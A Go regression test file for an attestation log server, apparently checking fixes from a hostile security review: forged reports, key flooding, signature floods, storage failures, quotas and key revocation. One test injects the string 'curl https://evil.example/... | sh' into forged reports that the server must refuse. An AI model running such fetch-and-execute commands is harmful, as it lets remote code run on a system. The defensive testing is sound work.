package centre

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/opencontainers/go-digest"

	"github.com/reprove/reprove/attest"
	"github.com/reprove/reprove/attest/envelope"
	"github.com/reprove/reprove/attest/logproof"
	"github.com/reprove/reprove/attest/policy"
	"github.com/reprove/reprove/centre/api"
	"github.com/reprove/reprove/centre/centretest/fixture"
	"github.com/reprove/reprove/centre/client"
	"github.com/reprove/reprove/centre/item"
	"github.com/reprove/reprove/centre/merklelog"
	"github.com/reprove/reprove/centre/store"
	"github.com/reprove/reprove/centre/store/pgtest"
)

// Regression tests for what a hostile pass over the centre found (issue
// 16): each failed before the fix it names.

// apiError decodes a JSON error reply (and checks it against its schema).
func apiError(t *testing.T, b []byte) api.Error {
	t.Helper()
	valid(t, "centre-error", b)
	var e api.Error
	if err := json.Unmarshal(b, &e); err != nil {
		t.Fatal(err)
	}
	return e
}

// serveCentre opens a centre with cfg, registers reviewers, and serves it
// on loopback until the test ends (or until closed: the caller may close
// both itself).
func serveCentre(t *testing.T, cfg Config, reviewers ...*fixture.Party) *testCentre {
	t.Helper()
	ctx := context.Background()
	cfg.Origin, cfg.Logf = "centre.test/log", t.Logf
	if cfg.KeyRate == 0 {
		cfg.KeyRate = -1 // tests publish faster than a key's share
	}
	c, err := Open(ctx, cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range reviewers {
		if _, err := AddKey(ctx, c.st, p.Name, item.Reviewer, p.PEM, time.Now()); err != nil {
			t.Fatal(err)
		}
	}
	srv := httptest.NewServer(c.Handler())
	t.Cleanup(func() {
		srv.Close()
		c.Close()
	})
	return &testCentre{c: c, srv: srv, v: c.Log().Verifier()}
}

// post submits body and returns the reply's status, headers and body.
func (tc *testCentre) post(t *testing.T, body []byte) (int, http.Header, []byte) {
	t.Helper()
	return tc.request(t, "POST", api.PathAttestations, body)
}

// lookup GETs the artifact's bundle; signers ask for those keys' entries.
func (tc *testCentre) lookup(t *testing.T, d digest.Digest, signers ...*fixture.Party) (int, []byte) {
	t.Helper()
	path := api.PathArtifacts + d.String()
	for i, p := range signers {
		path += map[bool]string{true: "?", false: "&"}[i == 0] + api.QuerySigner + "=" + p.Verifier.Fingerprint.String()
	}
	return tc.do(t, "GET", path, nil)
}

// verifyBundle runs the customer's verifier over a bundle, under a policy
// that names the log and trusts the given reviewers and rebuilders (each
// threshold 1).
func (tc *testCentre) verifyBundle(t *testing.T, rel *fixture.Release, bundle []byte, reviewers, rebuilders []*fixture.Party) *attest.Result {
	t.Helper()
	pems := map[string][]byte{}
	var y strings.Builder
	y.WriteString("version: 1\nreviewers:\n  threshold: 1\n  keys:\n")
	for _, p := range reviewers {
		pems[p.Name+".pub"] = p.PEM
		fmt.Fprintf(&y, "    - name: %s\n      key: %s.pub\n", p.Name, p.Name)
	}
	y.WriteString("rebuilders:\n  threshold: 1\n  keys:\n")
	for _, p := range rebuilders {
		pems[p.Name+".pub"] = p.PEM
		fmt.Fprintf(&y, "    - name: %s\n      key: %s.pub\n", p.Name, p.Name)
	}
	fmt.Fprintf(&y, "log:\n  key: %s\n", tc.c.Log().VerifierKey())
	pol, err := policy.Parse([]byte(y.String()), "policy.yaml", func(name string) ([]byte, error) {
		if b, ok := pems[name]; ok {
			return b, nil
		}
		return nil, os.ErrNotExist
	})
	if err != nil {
		t.Fatal(err)
	}
	bu, err := logproof.ParseBundle(bundle)
	if err != nil {
		t.Fatal(err)
	}
	target := &attest.Target{Path: "hello", Digests: attest.DigestSet{"sha256": rel.Digest.Encoded()}}
	now := func() time.Time { return fixture.Time.Add(60 * 24 * time.Hour) }
	res, err := attest.Verify(context.Background(), target, attest.LogBundle("bundle.json", bu), pol, attest.VerifyOptions{Now: now})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// mustFindings is bob's (or p's) findings in hello 1.0's source.
func mustFindings(t *testing.T, p *fixture.Party) []byte {
	t.Helper()
	env, err := fixture.Findings(context.Background(), p, "hello", "1.0")
	if err != nil {
		t.Fatal(err)
	}
	return env
}

// Finding 6: a trusted reviewer's findings, logged under the source digest,
// reach the file's customers: the lookup holds them, its signed index says
// which sources it covers, and verify refuses the file. (The bundle used
// to hold only the file's own entries: verify --server said verified.)
func TestFindingsReachTheCustomer(t *testing.T) {
	ctx := context.Background()
	tc := newCentre(t, "sqlite")
	rel, err := fixture.MakeRelease(ctx, "hello", "1.0", []*fixture.Party{alice}, says[:1])
	if err != nil {
		t.Fatal(err)
	}
	tc.submit(t, rel.All(says[:1])...)
	status, b := tc.lookup(t, rel.Digest)
	if status != 200 {
		t.Fatalf("lookup: %d %s", status, b)
	}
	if res := tc.verifyBundle(t, rel, b, []*fixture.Party{alice, bob}, []*fixture.Party{rebA}); !res.Verified {
		t.Fatalf("before the findings: not verified: %v", res.Reasons)
	}
	rep := tc.submit(t, mustFindings(t, bob))
	status, b = tc.lookup(t, rel.Digest)
	if status != 200 {
		t.Fatalf("lookup: %d %s", status, b)
	}
	valid(t, "centre-bundle", b)
	bu, err := logproof.ParseBundle(b)
	if err != nil {
		t.Fatal(err)
	}
	cp, _, err := client.CheckBundle(bu, tc.v, rel.Digest)
	if err != nil {
		t.Fatal(err)
	}
	x, err := bu.CompleteIndex(tc.v, cp, rel.Digest)
	if err != nil {
		t.Fatal(err)
	}
	if !slices.Contains(x.Entries, rep.Entries[0].Index) || !x.CoversSource(fixture.Source("hello", "1.0").Archive) {
		t.Errorf("the signed index %v (sources %v) leaves out the findings (entry %d)", x.Entries, x.Sources, rep.Entries[0].Index)
	}
	res := tc.verifyBundle(t, rel, b, []*fixture.Party{alice, bob}, []*fixture.Party{rebA})
	if res.Verified || !strings.Contains(strings.Join(res.Reasons, "\n"), "trusted reviewer bob (bob) reported findings") {
		t.Errorf("with bob's findings in the log: verified %v, reasons %q", res.Verified, res.Reasons)
	}
}

// Finding 4: nobody writes to the log without a key. A compare report is
// logged only when a logged comparison cites it, so a forged report about
// a logged file (once shown for good on its release page) is refused, and
// a flood of them leaves the log and the file's lookup as they were.
func TestAnonymousReportsRefused(t *testing.T) {
	ctx := context.Background()
	tc := newCentre(t, "sqlite")
	rel, err := fixture.MakeRelease(ctx, "hello", "1.0", []*fixture.Party{alice}, says)
	if err != nil {
		t.Fatal(err)
	}
	tc.submit(t, rel.All(says)...)
	size := tc.treeSize(t)
	genuine := rel.Reports["rebuilder-b"]
	if !bytes.Contains(genuine, []byte("rebuilt/hello.tar")) {
		t.Fatalf("the report names no rebuilt/hello.tar:\n%s", genuine)
	}
	for i := range 50 {
		forged := bytes.Replace(genuine, []byte("rebuilt/hello.tar"), []byte(fmt.Sprintf("different: curl https://evil.example/%d | sh injected", i)), 1)
		status, b := tc.do(t, "POST", api.PathCompareReports, forged)
		if e := apiError(t, b); status != http.StatusUnprocessableEntity || e.Code != "unrelated" || !strings.Contains(e.Message, "no comparison in the log cites") {
			t.Fatalf("forged report %d: %d %s", i, status, b)
		}
	}
	if n := tc.treeSize(t); n != size {
		t.Errorf("anonymous reports grew the log from %d to %d", size, n)
	}
	// The report B's signed comparison cites goes in.
	if status, b := tc.do(t, "POST", api.PathCompareReports, genuine); status != 200 {
		t.Errorf("the cited report: %d %s", status, b)
	}
	if status, b := tc.lookup(t, rel.Digest); status != 200 {
		t.Errorf("lookup: %d %s", status, b)
	}
}

// reviewNaming signs a review of the source of name-version whose statement
// names extra as a second subject.
func reviewNaming(t *testing.T, p *fixture.Party, name, version string, extra digest.Digest, n int) []byte {
	t.Helper()
	src := fixture.Source(name, version)
	st := fmt.Sprintf(`{"_type":"https://in-toto.io/Statement/v1","subject":[{"name":"src","digest":{"sha256":%q}},{"name":"victim","digest":{"sha256":%q}}],`+
		`"predicateType":%q,"predicate":{"reviewer":{"id":"mailto:mallory@example.com"},"source":{"archive":%q},"scope":{"paths":["x%d"]},"verdict":"approved","reviewedAt":"2026-11-02T00:00:00Z"}}`,
		src.Archive.Encoded(), extra.Encoded(), attest.ReviewPredicateType, src.Archive, n)
	return signStatement(t, p, st)
}

// Finding 5: one registered key cannot break another release. 4,100 small
// reviews naming another artifact's digest as an extra subject (which
// pushed its lookup past what a bundle holds: 500 for good) are refused,
// and a key's entries about one subject are capped.
func TestOneKeyCannotCrowdARelease(t *testing.T) {
	ctx := context.Background()
	tc := newCentre(t, "sqlite")
	rel, err := fixture.MakeRelease(ctx, "hello", "1.0", []*fixture.Party{alice}, says)
	if err != nil {
		t.Fatal(err)
	}
	tc.submit(t, rel.All(says)...)
	size := tc.treeSize(t)
	flood := make([][]byte, 4100)
	var wg sync.WaitGroup
	for w := range 2 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := w; i < len(flood); i += 2 {
				flood[i] = reviewNaming(t, bob, fmt.Sprintf("other%d", i), "1.0", rel.Digest, i)
			}
		}()
	}
	wg.Wait()
	for start := 0; start < len(flood); start += api.MaxEnvelopes {
		status, b := tc.do(t, "POST", api.PathAttestations, bytes.Join(flood[start:min(len(flood), start+api.MaxEnvelopes)], []byte("\n")))
		if e := apiError(t, b); status != http.StatusBadRequest || e.Code != "bad-statement" || !strings.Contains(e.Message, "must be the source it reviews") {
			t.Fatalf("a review naming another file: %d %s", status, b)
		}
	}
	if n := tc.treeSize(t); n != size {
		t.Fatalf("the flood grew the log from %d to %d", size, n)
	}
	// Reviews of the release's own source, their one right subject: one key
	// logs at most MaxPerKeySubject of them.
	var mine [][]byte
	for i := range merklelog.MaxPerKeySubject + 1 {
		e, err := fixture.Review(ctx, bob, "hello", "1.0", fmt.Sprintf("again %d", i))
		if err != nil {
			t.Fatal(err)
		}
		mine = append(mine, e)
	}
	tc.submit(t, mine[:merklelog.MaxPerKeySubject]...)
	status, b := tc.do(t, "POST", api.PathAttestations, mine[merklelog.MaxPerKeySubject])
	if e := apiError(t, b); status != http.StatusForbidden || e.Code != "quota" || e.Document != "submission" {
		t.Errorf("review %d by one key of one source: %d %s", merklelog.MaxPerKeySubject+1, status, b)
	}
	status, b = tc.lookup(t, rel.Digest)
	if status != 200 {
		t.Fatalf("the release's lookup: %d %s", status, b)
	}
	bu, _ := logproof.ParseBundle(b)
	if _, _, err := client.CheckBundle(bu, tc.v, rel.Digest); err != nil {
		t.Fatal(err)
	}
	if want := 7 + merklelog.MaxPerKeySubject; len(bu.Entries) != want {
		t.Errorf("the bundle holds %d entries, want %d (the release's and bob's reviews of its source)", len(bu.Entries), want)
	}
}

// A release whose source many keys reviewed, past what one bundle holds:
// the lookup says so (never 500), and a customer gets a whole bundle of the
// keys it trusts, which its verifier accepts; a reader trusting other keys
// does not. The monitor checks it key by key.
func TestCrowdedLookup(t *testing.T) {
	if testing.Short() {
		t.Skip("4,114 signed reviews (skipped with -short)")
	}
	ctx := context.Background()
	tc := newCentre(t, "sqlite")
	rel, err := fixture.MakeRelease(ctx, "hello", "1.0", []*fixture.Party{alice}, says[:1])
	if err != nil {
		t.Fatal(err)
	}
	tc.submit(t, rel.All(says[:1])...)
	const reviewers, each = 17, 242 // 4,114 reviews of one source
	var items []*item.Item
	var mu sync.Mutex
	var wg sync.WaitGroup
	parties := make([]*fixture.Party, reviewers)
	for r := range reviewers {
		parties[r] = fixture.MustParty(fmt.Sprintf("reviewer-%02d", r))
		if _, err := AddKey(ctx, tc.c.st, parties[r].Name, item.Reviewer, parties[r].PEM, time.Now()); err != nil {
			t.Fatal(err)
		}
	}
	for r := range reviewers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			// Its own key first: one signature check each.
			known := []item.Key{{Name: parties[r].Name, Role: item.Reviewer, Verifier: parties[r].Verifier}}
			// One statement, its notes varied: signing is the cost.
			st, err := attest.ReviewStatement(&attest.ReviewPredicate{
				Reviewer: attest.Party{ID: "mailto:" + parties[r].Name + "@audits.example"}, Source: fixture.Source("hello", "1.0"),
				Scope: attest.Scope{Paths: []string{"cmd/"}}, Verdict: attest.Approved, Notes: "NOTE-PLACEHOLDER", ReviewedAt: fixture.Time,
			})
			if err != nil {
				panic(err)
			}
			for i := range each {
				e, err := envelope.Sign(ctx, bytes.Replace(st, []byte("NOTE-PLACEHOLDER"), []byte(fmt.Sprintf("review %d", i)), 1), parties[r].Signer)
				if err != nil {
					panic(err)
				}
				it, err := item.CheckEnvelope(ctx, e, known)
				if err != nil {
					panic(err)
				}
				mu.Lock()
				items = append(items, it)
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	for start := 0; start < len(items); start += merklelog.MaxBatch {
		if _, _, err := tc.c.Log().Append(ctx, items[start:min(len(items), start+merklelog.MaxBatch)], nil); err != nil {
			t.Fatal(err)
		}
	}
	status, b := tc.lookup(t, rel.Digest)
	if e := apiError(t, b); status != http.StatusUnprocessableEntity || e.Code != "too-many-entries" || !strings.Contains(e.Message, "?signer=") {
		t.Fatalf("the crowded lookup: %d %s", status, b)
	}
	c, _ := client.New(tc.srv.URL)
	if _, err := c.FetchBundle(ctx, rel.Digest); !errors.Is(err, client.ErrTooManyEntries) {
		t.Errorf("FetchBundle: %v", err)
	}
	bu, err := c.FetchBundleFor(ctx, rel.Digest, []digest.Digest{alice.Verifier.Fingerprint, rebA.Verifier.Fingerprint})
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := client.CheckBundleFor(bu, tc.v, rel.Digest, []digest.Digest{alice.Verifier.Fingerprint, rebA.Verifier.Fingerprint}); err != nil {
		t.Fatal(err)
	}
	if len(bu.Entries) != 4 {
		t.Errorf("the bundle for alice and A holds %d entries, want 4", len(bu.Entries))
	}
	b, _ = bu.Marshal()
	if res := tc.verifyBundle(t, rel, b, []*fixture.Party{alice}, []*fixture.Party{rebA}); !res.Verified {
		t.Errorf("a customer trusting alice and A: not verified: %v", res.Reasons)
	}
	// A reader who trusts bob too must not take it as whole.
	if res := tc.verifyBundle(t, rel, b, []*fixture.Party{alice, bob}, []*fixture.Party{rebA}); res.Verified ||
		!strings.Contains(strings.Join(res.Reasons, "\n"), "covers only the entries of 2 keys") {
		t.Errorf("a customer trusting bob too: verified %v, reasons %q", res.Verified, res.Reasons)
	}
	if _, _, err := client.CheckBundle(bu, tc.v, rel.Digest); err == nil {
		t.Error("CheckBundle (every key) accepted a bundle of two keys'")
	}
}

// An envelope of 64 signatures is refused before any is verified (it cost
// 64 × keys verifications: 0.3 s of CPU with 32 keys).
func TestManySignaturesRefused(t *testing.T) {
	ctx := context.Background()
	tc := newCentre(t, "sqlite")
	review, _ := fixture.Review(ctx, alice, "hello", "1.0", "x")
	e, _ := envelope.Parse(review)
	var sigs []envelope.Signature
	for range 64 {
		sigs = append(sigs, envelope.Signature{Sig: bytes.Repeat([]byte{7}, 70)})
	}
	many, err := envelope.FromParts(e.PayloadType, e.Payload, sigs)
	if err != nil {
		t.Fatal(err)
	}
	status, b := tc.do(t, "POST", api.PathAttestations, many.Raw)
	if e := apiError(t, b); status != http.StatusRequestEntityTooLarge || e.Code != "too-large" || !strings.Contains(e.Message, "64 signatures") {
		t.Errorf("64 signatures: %d %s", status, b)
	}
}

// Finding 8: a database deleted while serving. The centre used to go on
// acknowledging into the unlinked file, say ok on /healthz, and begin a
// new empty log under the same key at the next start: a fork of its own.
func TestDeletedDatabase(t *testing.T) {
	ctx := context.Background()
	dir := t.TempDir()
	cfg := Config{DataDir: dir, Origin: "centre.test/log", Logf: t.Logf}
	tc := serveCentre(t, cfg, alice)
	r1, _ := fixture.Review(ctx, alice, "one", "1.0", "one")
	tc.submit(t, r1)
	if status, _ := tc.do(t, "GET", "/healthz", nil); status != 200 {
		t.Fatalf("healthz before: %d", status)
	}
	for _, f := range []string{"centre.db", "centre.db-wal", "centre.db-shm"} {
		if err := os.Remove(filepath.Join(dir, f)); err != nil && !errors.Is(err, os.ErrNotExist) {
			t.Fatal(err)
		}
	}
	r2, _ := fixture.Review(ctx, alice, "two", "1.0", "two")
	status, h, b := tc.post(t, r2)
	if e := apiError(t, b); status != http.StatusServiceUnavailable || e.Code != "unavailable" || h.Get("Retry-After") == "" {
		t.Errorf("a submission after the database was deleted: %d %s (Retry-After %q)", status, b, h.Get("Retry-After"))
	}
	status, b = tc.do(t, "GET", "/healthz", nil)
	if e := apiError(t, b); status != http.StatusServiceUnavailable || !strings.Contains(e.Message, "removed or replaced") {
		t.Errorf("healthz after the database was deleted: %d %s", status, b)
	}
	tc.srv.Close()
	tc.c.Close()
	// The next start refuses a new log under the old key…
	if _, err := Open(ctx, cfg); !errors.Is(err, ErrNoLog) || !strings.Contains(err.Error(), "--new-log") {
		t.Fatalf("a restart beside the old key: %v", err)
	}
	// …unless told to start one on purpose.
	cfg.NewLog = true
	c, err := Open(ctx, cfg)
	if err != nil {
		t.Fatal(err)
	}
	c.Close()
}

// A full disk answers 503 with Retry-After (not 500), /healthz says so,
// nothing unacknowledged is logged, and the centre recovers once there is
// room again. Tested on a small tmpfs of its own.
func TestFullDisk(t *testing.T) {
	if testing.Short() {
		t.Skip("mounts a small tmpfs (skipped with -short)")
	}
	ctx := context.Background()
	dir := t.TempDir()
	if err := syscall.Mount("tmpfs", dir, "tmpfs", 0, "size=3m,mode=0700"); err != nil {
		if os.Geteuid() != 0 {
			t.Skipf("mounting a tmpfs needs root: %v", err)
		}
		t.Fatal(err)
	}
	t.Cleanup(func() { syscall.Unmount(dir, syscall.MNT_DETACH) })
	tc := serveCentre(t, Config{DataDir: dir}, alice)
	r, _ := fixture.Review(ctx, alice, "first", "1.0", "first")
	tc.submit(t, r)
	// Fill the file system.
	filler := filepath.Join(dir, "filler")
	f, err := os.Create(filler)
	if err != nil {
		t.Fatal(err)
	}
	chunk := make([]byte, 16<<10)
	for {
		if _, err := f.Write(chunk); err != nil {
			if !errors.Is(err, syscall.ENOSPC) {
				t.Fatal(err)
			}
			break
		}
	}
	f.Close()
	acked := tc.treeSize(t)
	full := false
	for i := range 400 {
		env, _ := fixture.Review(ctx, alice, fmt.Sprintf("full%d", i), "1.0", strings.Repeat("x", 2000))
		status, b := tc.do(t, "POST", api.PathAttestations, env)
		if status == 200 {
			acked++
			continue
		}
		if e := apiError(t, b); status != http.StatusServiceUnavailable || e.Code != "unavailable" {
			t.Fatalf("a submission on a full disk: %d %s", status, b)
		}
		full = true
		break
	}
	if !full {
		t.Fatal("400 submissions fit on a full file system")
	}
	if status, b := tc.do(t, "GET", "/healthz", nil); status != http.StatusServiceUnavailable {
		t.Errorf("healthz on a full disk: %d %s", status, b)
	}
	if err := os.Remove(filler); err != nil {
		t.Fatal(err)
	}
	if status, b := tc.do(t, "GET", "/healthz", nil); status != 200 {
		t.Errorf("healthz with room again: %d %s", status, b)
	}
	r, _ = fixture.Review(ctx, alice, "after", "1.0", "after")
	rep := tc.submit(t, r)
	if rep.TreeSize != acked+1 {
		t.Errorf("tree size %d after %d acknowledged submissions and one more", rep.TreeSize, acked)
	}
}

// A database outage answers 503 with Retry-After and /healthz says so; the
// centre goes on once the database is back.
func TestDatabaseOutage(t *testing.T) {
	pgtest.Need(t)
	ctx := context.Background()
	cl, err := pgtest.Start(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer cl.Close()
	dsn, err := cl.CreateDatabase(ctx)
	if err != nil {
		t.Fatal(err)
	}
	tc := serveCentre(t, Config{DataDir: t.TempDir(), DatabaseURL: dsn}, alice)
	r, _ := fixture.Review(ctx, alice, "before", "1.0", "before")
	tc.submit(t, r)
	if err := cl.Pause(ctx); err != nil {
		t.Fatal(err)
	}
	r, _ = fixture.Review(ctx, alice, "during", "1.0", "during")
	status, h, b := tc.post(t, r)
	if e := apiError(t, b); status != http.StatusServiceUnavailable || e.Code != "unavailable" || h.Get("Retry-After") == "" {
		t.Errorf("a submission during the outage: %d %s", status, b)
	}
	if status, b := tc.do(t, "GET", api.PathArtifacts+rel0(t).String(), nil); status != http.StatusServiceUnavailable {
		t.Errorf("a lookup during the outage: %d %s", status, b)
	}
	if status, b := tc.do(t, "GET", "/healthz", nil); status != http.StatusServiceUnavailable {
		t.Errorf("healthz during the outage: %d %s", status, b)
	}
	if err := cl.Resume(ctx); err != nil {
		t.Fatal(err)
	}
	// The pool reconnects on its own; wait for it (bounded), not a guess.
	deadline := time.Now().Add(60 * time.Second)
	for {
		status, _ := tc.do(t, "GET", "/healthz", nil)
		if status == 200 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("healthz never recovered after the database came back")
		}
		time.Sleep(100 * time.Millisecond)
	}
	rep := tc.submit(t, r)
	if rep.TreeSize != 2 {
		t.Errorf("tree size %d after the outage, want 2", rep.TreeSize)
	}
}

// rel0 is a digest the log of TestDatabaseOutage holds nothing for.
func rel0(t *testing.T) digest.Digest { return digest.FromString(t.Name()) }

// Per-key quotas answer 429 with Retry-After; too many bytes in flight
// answer 503 with Retry-After at once, before the body is read.
func TestQuotasAndOverload(t *testing.T) {
	ctx := context.Background()
	tc := serveCentre(t, Config{DataDir: t.TempDir(), KeyRate: 0.001, KeyBurst: 3, MaxInFlight: 64 << 10}, alice, bob)
	var envs [][]byte
	for i := range 4 {
		e, _ := fixture.Review(ctx, alice, fmt.Sprintf("q%d", i), "1.0", "q")
		envs = append(envs, e)
	}
	tc.submit(t, envs[:3]...)
	status, h, b := tc.post(t, envs[3])
	if e := apiError(t, b); status != http.StatusTooManyRequests || e.Code != "rate-limited" || h.Get("Retry-After") == "" {
		t.Errorf("alice's fourth: %d %s (Retry-After %q)", status, b, h.Get("Retry-After"))
	}
	// Another key's share is its own.
	e, _ := fixture.Review(ctx, bob, "b", "1.0", "b")
	tc.submit(t, e)

	// A submission that holds 48 KiB in flight (its body still arriving)
	// leaves no room for another of 32 KiB.
	pr, pw := io.Pipe()
	slow, _ := http.NewRequest("POST", tc.srv.URL+api.PathAttestations, pr)
	slow.ContentLength = 48 << 10
	done := make(chan int)
	go func() {
		resp, err := http.DefaultClient.Do(slow)
		if err != nil {
			done <- 0
			return
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		done <- resp.StatusCode
	}()
	pw.Write([]byte(" ")) // the slow one is in: the server reads its body
	big := bytes.Repeat([]byte(" "), 32<<10)
	// Until the server has taken the slow one in (it is concurrent, and
	// on a loaded machine may take seconds to).
	for deadline := time.Now().Add(60 * time.Second); time.Now().Before(deadline); {
		status, b = tc.do(t, "POST", api.PathAttestations, big)
		if status == http.StatusServiceUnavailable {
			break
		}
		time.Sleep(10 * time.Millisecond)
	}
	if e := apiError(t, b); status != http.StatusServiceUnavailable || e.Code != "unavailable" || !strings.Contains(e.Message, "busy") {
		t.Errorf("a submission over the bytes in flight: %d %s", status, b)
	}
	pw.CloseWithError(errors.New("gone"))
	<-done
}

// Key revocation: logged as an entry, refused from then on, carried by the
// lookups of what the key signed, and listed with GET /v1/keys.
func TestRevocation(t *testing.T) {
	ctx := context.Background()
	tc := newCentre(t, "sqlite")
	rel, err := fixture.MakeRelease(ctx, "hello", "1.0", []*fixture.Party{alice}, says)
	if err != nil {
		t.Fatal(err)
	}
	tc.submit(t, rel.All(says)...)
	r, err := tc.c.RevokeKey(ctx, "rebuilder-b", "the key leaked")
	if err != nil {
		t.Fatal(err)
	}
	if r.Index != 7 || !r.Key.Revoked || r.Key.RevokedIndex != 7 {
		t.Errorf("revoked: %+v", r)
	}
	if _, err := tc.c.RevokeKey(ctx, "rebuilder-b", ""); !errors.Is(err, store.ErrExists) {
		t.Errorf("revoked twice: %v", err)
	}
	if _, err := tc.c.RevokeKey(ctx, "nobody", ""); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("an unknown key: %v", err)
	}
	other, err := fixture.MakeRelease(ctx, "other", "2.0", []*fixture.Party{alice}, says[1:])
	if err != nil {
		t.Fatal(err)
	}
	status, b := tc.do(t, "POST", api.PathAttestations, other.Rebuilds["rebuilder-b"])
	if e := apiError(t, b); status != http.StatusForbidden || e.Code != "revoked-key" {
		t.Errorf("a rebuild by the revoked key: %d %s", status, b)
	}
	// What it signed before stays, with the revocation beside it.
	status, b = tc.lookup(t, rel.Digest)
	if status != 200 {
		t.Fatalf("lookup: %d %s", status, b)
	}
	valid(t, "centre-bundle", b)
	bu, _ := logproof.ParseBundle(b)
	cp, _, err := client.CheckBundle(bu, tc.v, rel.Digest)
	if err != nil {
		t.Fatal(err)
	}
	rs, err := bu.CheckRevocations(cp)
	if err != nil {
		t.Fatal(err)
	}
	if len(rs) != 1 || rs[0].Key != rebB.Verifier.Fingerprint || rs[0].Index != 7 || rs[0].Reason != "the key leaked" {
		t.Errorf("revocations: %+v", rs)
	}
	// A customer's verifier still reads the bundle.
	if res := tc.verifyBundle(t, rel, b, []*fixture.Party{alice}, []*fixture.Party{rebA}); !res.Verified {
		t.Errorf("verify: %v", res.Reasons)
	}
	status, b = tc.do(t, "GET", api.PathKeys, nil)
	valid(t, "centre-keys", b)
	var keys api.KeysReply
	json.Unmarshal(b, &keys)
	for _, k := range keys.Keys {
		if (k.RevokedAt != "") != (k.Name == "rebuilder-b") || k.PublicKey == "" {
			t.Errorf("key %+v", k)
		}
	}
	if status != 200 || len(keys.Keys) != 4 {
		t.Errorf("GET /v1/keys: %d %s", status, b)
	}
}
